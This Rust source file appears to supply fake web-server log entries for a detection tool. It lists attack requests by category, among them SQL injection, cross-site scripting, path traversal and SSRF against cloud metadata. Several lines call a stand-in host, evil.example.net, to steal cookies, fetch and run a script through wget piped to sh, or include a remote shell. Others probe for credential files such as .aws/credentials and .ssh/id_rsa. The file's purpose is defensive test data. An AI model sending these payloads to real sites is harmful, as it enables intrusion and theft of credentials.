//! What attackers of a web site send, by form: requests in the idioms of public tools and lists. They attack nothing: a line of a log
//! is all there ever is of them.

use vigie_facts::form::Form;

/// A way to attack: form, tool, and its requests in the order the tool sends them.
pub(super) struct Attack {
    pub(super) form: Form,
    pub(super) agent: &'static str,
    pub(super) requests: &'static [Request],
}

/// Method, target, status and bytes of the answer.
pub(super) type Request = (&'static str, &'static str, u16, u64);

const CHROME: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/55.0.2883.87 Safari/537.36";

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        form: Form::SqlInjection,
        agent: "sqlmap/1.1.2#stable (http://sqlmap.org)",
        requests: &[
            ("GET", "/agenda/?id=1%20AND%201%3D1", 200, 19_820),
            ("GET", "/agenda/?id=1%27%20OR%20%271%27%3D%271", 200, 19_820),
            ("GET", "/agenda/?id=-1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2Cversion%28%29--%20-", 500, 312),
            ("GET", "/agenda/?id=1%20AND%20SLEEP%285%29", 200, 19_820),
            ("GET", "/agenda/?id=1%3BSELECT%20PG_SLEEP%285%29--", 500, 312),
            ("GET", "/agenda/?id=1%20AND%20%28SELECT%204421%20FROM%20information_schema.tables%29%3E0", 500, 312),
            (
                "GET",
                "/api/agenda?order=(CASE+WHEN+1%3D1+THEN+date+ELSE+id+END)%2cextractvalue(1,concat(0x7e,user()))",
                500,
                312,
            ),
        ],
    },
    Attack {
        form: Form::CrossSiteScripting,
        agent: CHROME,
        requests: &[
            ("GET", "/recherche?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", 200, 9_120),
            ("GET", "/recherche?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", 200, 9_120),
            ("GET", "/recherche?q=%3Csvg/onload=fetch(%27//evil.example.net/%27%2Bdocument.cookie)%3E", 200, 9_120),
            ("GET", "/contact?nom=%27%22%3E%3Ciframe%20src=javascript:alert(1)%3E", 200, 12_744),
        ],
    },
    Attack {
        form: Form::PathTraversal,
        agent: "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:map_codes)",
        requests: &[
            ("GET", "/media/..%2f..%2f..%2f..%2fetc%2fpasswd", 404, 162),
            ("GET", "/telecharger?fichier=../../../../../../etc/passwd", 404, 162),
            ("GET", "/telecharger?fichier=%252e%252e%252f%252e%252e%252fetc%252fshadow", 404, 162),
            ("GET", "/static/..%c0%af..%c0%afetc/passwd", 400, 150),
            ("GET", "/..\\..\\..\\..\\windows\\win.ini", 400, 150),
        ],
    },
    Attack {
        form: Form::FileInclusion,
        agent: "python-requests/2.13.0",
        requests: &[
            ("GET", "/index.php?page=http://evil.example.net/shell.txt?", 404, 162),
            ("GET", "/index.php?page=php://filter/convert.base64-encode/resource=config.php", 404, 162),
            ("GET", "/index.php?page=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8%2B", 404, 162),
        ],
    },
    Attack {
        form: Form::CommandInjection,
        agent: "curl/7.47.0",
        requests: &[
            ("GET", "/cgi-bin/ping.cgi?host=127.0.0.1;cat%20/etc/passwd", 404, 162),
            ("GET", "/outils/export?format=pdf%7Cid", 404, 162),
            ("GET", "/outils/export?format=$(wget%20http://evil.example.net/x%20-O-%20%7C%20sh)", 404, 162),
        ],
    },
    Attack {
        form: Form::SensitiveFileProbe,
        agent: "Go-http-client/1.1",
        requests: &[
            ("GET", "/.env", 404, 162),
            ("GET", "/.git/config", 404, 162),
            ("GET", "/wp-config.php.bak", 404, 162),
            ("GET", "/backup.sql", 404, 162),
            ("GET", "/.aws/credentials", 404, 162),
            ("GET", "/.ssh/id_rsa", 404, 162),
        ],
    },
    Attack {
        form: Form::AdminInterfaceProbe,
        agent: "Mozilla/5.0 zgrab/0.x",
        requests: &[
            ("GET", "/phpmyadmin/index.php", 404, 162),
            ("GET", "/wp-login.php", 404, 162),
            ("GET", "/administrator/index.php", 404, 162),
            ("GET", "/manager/html", 404, 162),
            ("GET", "/pma/index.php", 404, 162),
        ],
    },
    Attack {
        form: Form::WebShell,
        agent: CHROME,
        requests: &[
            ("GET", "/wp-content/uploads/c99.php", 404, 162),
            ("POST", "/images/r57.php", 404, 162),
            ("GET", "/media/shell.php?cmd=id", 404, 162),
        ],
    },
    Attack {
        form: Form::TemplateInjection,
        agent: "python-requests/2.13.0",
        requests: &[
            ("GET", "/recherche?q=%7B%7B7*7%7D%7D", 200, 9_120),
            ("GET", "/recherche?q=%24%7B7*7%7D", 200, 9_120),
            ("GET", "/recherche?q=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D", 200, 9_120),
        ],
    },
    Attack {
        form: Form::ServerSideRequestForgery,
        agent: "curl/7.47.0",
        requests: &[
            ("GET", "/apercu?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/", 404, 162),
            ("GET", "/apercu?url=http://127.0.0.1:6379/", 404, 162),
        ],
    },
    Attack {
        form: Form::CodeInjection,
        agent: "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        requests: &[
            ("GET", "/index.php?a=eval(base64_decode('cGhwaW5mbygpOw=='))", 404, 162),
            ("POST", "/cgi-bin/php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input", 404, 162),
        ],
    },
];
